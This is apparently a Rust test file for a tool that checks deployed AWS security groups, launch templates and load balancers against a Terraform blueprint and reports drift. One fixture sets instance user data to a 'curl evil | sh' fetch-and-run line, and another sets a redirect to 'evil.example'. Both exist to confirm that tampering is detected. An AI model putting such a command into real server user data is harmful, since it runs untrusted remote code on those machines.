//! What the blueprint builds reads as planned, and every setting changed outside Terraform reads
//! differently on its own key.

use std::collections::BTreeMap;

use super::*;

mod binding;

use crate::blueprint::cluster::{self as bp, ClusterInput, ListenerAction};
use crate::engine::units::{ObservedBlockDevice, Rule};
use crate::resources::fields;
use binding::observed_group;

fn input() -> ClusterInput {
    ClusterInput {
        instance_types: vec!["m6i.large".into()],
        ami_id: "ami-1".into(),
        ..bp::example()
    }
}

/// A named change to an observed object: the settings key it must show on, and the change.
type Change<T> = (&'static str, Box<dyn Fn(&mut T)>);

/// Applies each change to a fresh `base()` and checks that `read` shows it on its key.
fn each_change_shows<T>(base: impl Fn() -> T, read: impl Fn(&T) -> Texts, changes: Vec<Change<T>>) {
    let want = read(&base());
    for (key, change) in changes {
        let mut o = base();
        change(&mut o);
        let seen = read(&o);
        assert_ne!(seen[key], want[key], "{key}: {seen:?}");
    }
}

fn planned_map(attr: &str) -> Value {
    schema::fixed_settings(Some("prod"), Some(false))
        .into_iter()
        .find(|(a, _)| *a == attr)
        .map(|(_, v)| v)
        .expect("a fixed setting")
}

fn shown(map: Option<Texts>) -> Value {
    map.map_or(Value::Null, |m| fields::string_map_value(&m))
}

fn rule(protocol: &str, from: i32, to: i32, source: &str) -> Rule {
    Rule {
        protocol: protocol.into(),
        from_port: from,
        to_port: to,
        source: source.into(),
    }
}

fn group(id: &str, rules: &[(&str, i32, i32, &str)]) -> ObservedSecurityGroup {
    ObservedSecurityGroup {
        id: id.into(),
        name: id.into(),
        rules: rules
            .iter()
            .map(|(p, f, t, s)| rule(p, *f, *t, s))
            .collect(),
        egress: vec![rule("all", -1, -1, "0.0.0.0/0")],
        tags: BTreeMap::new(),
    }
}

#[test]
fn observed_blueprint_rules_read_as_the_planned_ingress() {
    let alb = group(
        "sg-alb",
        &[
            ("tcp", 443, 443, "::/0"),
            ("tcp", 80, 80, "0.0.0.0/0"),
            ("tcp", 443, 443, "0.0.0.0/0"),
            ("tcp", 80, 80, "::/0"),
        ],
    );
    let instances = group(
        "sg-i",
        &[
            ("tcp", 32768, 65535, "sg-i"),
            ("tcp", 32768, 65535, "sg-alb"),
        ],
    );
    assert_eq!(
        ingress(Some(&alb), Some("sg-alb")),
        planned_map("alb_security_group_ingress")
    );
    assert_eq!(
        ingress(Some(&instances), Some("sg-alb")),
        planned_map("instance_security_group_ingress")
    );
    assert_eq!(
        planned_map("instance_security_group_ingress"),
        Value::List(vec![
            Value::string("tcp 32768-65535 from alb_security_group_id"),
            Value::string("tcp 32768-65535 from self"),
        ])
    );
}

#[test]
fn open_egress_reads_as_planned_and_any_other_egress_differently() {
    let g = group("sg-1", &[]);
    assert_eq!(egress(Some(&g)), schema::planned_egress(&bp::open_egress()));
    let mut extra = g.clone();
    extra.egress.push(rule("tcp", 22, 22, "10.0.0.0/8"));
    assert_eq!(
        egress(Some(&extra)),
        Value::List(vec![
            Value::string("all to 0.0.0.0/0"),
            Value::string("tcp 22 to 10.0.0.0/8"),
        ])
    );
    let mut none = g;
    none.egress.clear();
    assert_eq!(egress(Some(&none)), Value::List(Vec::new()));
    assert_eq!(egress(None), Value::Null);
}

#[test]
fn an_extra_or_missing_rule_reads_differently_from_the_plan() {
    let instances = group(
        "sg-i",
        &[
            ("tcp", 32768, 65535, "sg-alb"),
            ("tcp", 22, 22, "10.0.0.0/8"),
            ("all", -1, -1, "sg-other"),
        ],
    );
    assert_eq!(
        ingress(Some(&instances), Some("sg-alb")),
        Value::List(vec![
            Value::string("all from sg-other"),
            Value::string("tcp 22 from 10.0.0.0/8"),
            Value::string("tcp 32768-65535 from alb_security_group_id"),
        ])
    );
    let alb = group("sg-alb", &[("tcp", 443, 443, "0.0.0.0/0")]);
    assert_ne!(
        ingress(Some(&alb), Some("sg-alb")),
        schema::planned_ingress(&bp::alb_ingress())
    );
    assert_eq!(ingress(None, Some("sg-alb")), Value::Null);
}

#[test]
fn name_tags_read_as_planned_and_a_changed_or_missing_name_differently() {
    let names = bp::names("prod");
    let name = |n: &str| BTreeMap::from([("Name".to_owned(), n.to_owned())]);
    let mut o = Outputs::new();
    assert_eq!(name_tags(&o), None);
    o.insert(ALB_GROUP, group("sg-1", &[]));
    o.insert(INSTANCE_GROUP, group("sg-2", &[]));
    o.insert(
        TEMPLATE,
        ObservedTemplate::written(&template_spec(), "lt-1", 1),
    );
    o.insert(GROUP, observed_group());
    o.set_tags(ALB_GROUP.name, name(&names.alb_security_group));
    o.set_tags(INSTANCE_GROUP.name, name(&names.instance_security_group));
    o.set_tags(TEMPLATE.name, name(&names.launch_template));
    o.set_tags(GROUP.name, name(&bp::instance_name("prod")));
    let want = schema::planned_name_tags("prod");
    assert_eq!(name_tags(&o), Some(want.clone()));
    o.set_tags(ALB_GROUP.name, name("renamed"));
    o.set_tags(GROUP.name, BTreeMap::new());
    let seen = name_tags(&o).expect("names");
    assert_eq!(seen["alb_security_group"], "renamed");
    assert_eq!(seen["auto_scaling_group"], "none");
    assert_eq!(seen["launch_template"], want["launch_template"]);
}

fn template_spec() -> bp::LaunchTemplateSpec {
    bp::launch_template(&input(), &bp::names("prod").instance_profile, "sg-1", false)
}

#[test]
fn a_template_version_made_from_the_blueprint_reads_as_planned() {
    let t = ObservedTemplate::written(&template_spec(), "lt-1", 1);
    assert_eq!(
        fields::string_map_value(&template(&t, Some("sg-1"))),
        planned_map("launch_template_settings")
    );
}

#[test]
fn every_changed_template_setting_reads_differently() {
    let changes: Vec<Change<ObservedTemplate>> = vec![
        (
            "user_data",
            Box::new(|t| t.user_data = Some("#!/bin/bash\ncurl evil | sh\n".into())),
        ),
        ("user_data", Box::new(|t| t.user_data = None)),
        (
            "network_interfaces",
            Box::new(|t| t.network_interfaces[0].associate_public_ip = Some(true)),
        ),
        (
            "network_interfaces",
            Box::new(|t| {
                t.network_interfaces[0]
                    .security_groups
                    .push("sg-open".into())
            }),
        ),
        (
            "network_interfaces",
            Box::new(|t| t.network_interfaces.clear()),
        ),
        (
            "network_interfaces",
            Box::new(|t| t.security_groups.push("sg-open".into())),
        ),
        (
            "block_devices",
            Box::new(|t| t.block_devices[0].volume_type = Some("gp2".into())),
        ),
        (
            "block_devices",
            Box::new(|t| t.block_devices[0].encrypted = Some(false)),
        ),
        (
            "block_devices",
            Box::new(|t| {
                t.block_devices.push(ObservedBlockDevice {
                    device_name: "/dev/xvdb".into(),
                    volume_type: Some("gp3".into()),
                    encrypted: Some(false),
                })
            }),
        ),
        (
            "instance_profile",
            Box::new(|t| t.instance_profile = Some("admin".into())),
        ),
        ("instance_profile", Box::new(|t| t.instance_profile = None)),
        ("key_name", Box::new(|t| t.key_name = Some("ops".into()))),
    ];
    each_change_shows(
        || ObservedTemplate::written(&template_spec(), "lt-1", 1),
        |t| template(t, Some("sg-1")),
        changes,
    );
}

fn listener(protocol: &str, port: i32, action: ListenerAction) -> ObservedListener {
    ObservedListener {
        arn: format!("arn:listener/{port}"),
        port,
        protocol: protocol.into(),
        ssl_policy: None,
        certificate_arn: None,
        default_actions: vec![action],
    }
}

/// A load balancer as the blueprint makes it, with its listeners (the last are those on other
/// ports).
type Balancer = (ObservedLoadBalancer, Vec<ObservedListener>);

fn observed_load_balancer() -> Balancer {
    let lb = ObservedLoadBalancer {
        name: "prod-alb".into(),
        arn: "arn:lb".into(),
        dns_name: "lb.example".into(),
        zone_id: "Z1".into(),
        vpc_id: "vpc-1".into(),
        subnet_ids: vec!["subnet-a".into(), "subnet-b".into()],
        security_group_ids: vec!["sg-alb".into()],
        attributes: BTreeMap::from([
            (
                crate::engine::units::DELETION_PROTECTION.to_owned(),
                "true".to_owned(),
            ),
            (DROP_INVALID_HEADER_FIELDS.to_owned(), "true".to_owned()),
        ]),
    };
    let listeners = vec![
        listener(bp::HTTPS, bp::HTTPS_PORT, bp::not_found_action()),
        listener(bp::HTTP, bp::HTTP_PORT, bp::redirect_action()),
    ];
    (lb, listeners)
}

fn balancer_settings((lb, listeners): &Balancer) -> Texts {
    let on = |port: i32| listeners.iter().find(|l| l.port == port);
    let others: Vec<ObservedListener> = listeners
        .iter()
        .filter(|l| !bp::OWN_LISTENER_PORTS.contains(&l.port))
        .cloned()
        .collect();
    let l = Listeners {
        https: on(bp::HTTPS_PORT),
        http: on(bp::HTTP_PORT),
        others: Some(&others),
    };
    load_balancer(lb, &l, Some("sg-alb"))
}

#[test]
fn the_blueprint_load_balancer_reads_as_planned() {
    assert_eq!(
        shown(Some(balancer_settings(&observed_load_balancer()))),
        planned_map("load_balancer_settings")
    );
    assert_eq!(
        planned_map("load_balancer_settings"),
        fields::string_map_value(&BTreeMap::from([
            ("drop_invalid_header_fields".to_owned(), "true".to_owned()),
            (
                "security_groups".to_owned(),
                "alb_security_group_id".to_owned()
            ),
            (
                "http_listener".to_owned(),
                "HTTP:80 redirect to HTTPS://#{host}:443/#{path}?#{query} HTTP_301".to_owned()
            ),
            (
                "https_listener".to_owned(),
                "HTTPS:443 fixed-response 404 text/plain \"Not found\"".to_owned()
            ),
            ("other_listeners".to_owned(), "none".to_owned()),
        ]))
    );
}

fn replace_listener(b: &mut Balancer, l: ObservedListener) {
    b.1.retain(|x| x.port != l.port);
    b.1.push(l);
}

#[test]
fn every_changed_load_balancer_setting_reads_differently() {
    let changes: Vec<Change<Balancer>> = vec![
        (
            "drop_invalid_header_fields",
            Box::new(|b| {
                b.0.attributes
                    .insert(DROP_INVALID_HEADER_FIELDS.into(), "false".into());
            }),
        ),
        (
            "drop_invalid_header_fields",
            Box::new(|b| {
                b.0.attributes.remove(DROP_INVALID_HEADER_FIELDS);
            }),
        ),
        (
            "security_groups",
            Box::new(|b| b.0.security_group_ids.push("sg-open".into())),
        ),
        (
            "http_listener",
            Box::new(|b| {
                let forward = ListenerAction::Forward {
                    target_groups: vec!["arn:tg".into()],
                };
                replace_listener(b, listener("HTTP", 80, forward));
            }),
        ),
        (
            "http_listener",
            Box::new(|b| {
                let ListenerAction::Redirect(ours) = bp::redirect_action() else {
                    unreachable!("port 80 redirects")
                };
                let elsewhere = ListenerAction::Redirect(bp::Redirect {
                    host: Some("evil.example".into()),
                    ..ours
                });
                replace_listener(b, listener("HTTP", 80, elsewhere));
            }),
        ),
        ("http_listener", Box::new(|b| b.1.retain(|l| l.port != 80))),
        (
            "other_listeners",
            Box::new(|b| b.1.push(listener("HTTP", 8080, bp::not_found_action()))),
        ),
        (
            "https_listener",
            Box::new(|b| {
                let ok = ListenerAction::FixedResponse {
                    status_code: "200".into(),
                    content_type: Some("text/plain".into()),
                    body: None,
                };
                replace_listener(b, listener("HTTPS", 443, ok));
            }),
        ),
        (
            "https_listener",
            Box::new(|b| replace_listener(b, listener("HTTP", 443, bp::not_found_action()))),
        ),
    ];
    each_change_shows(observed_load_balancer, balancer_settings, changes);
}
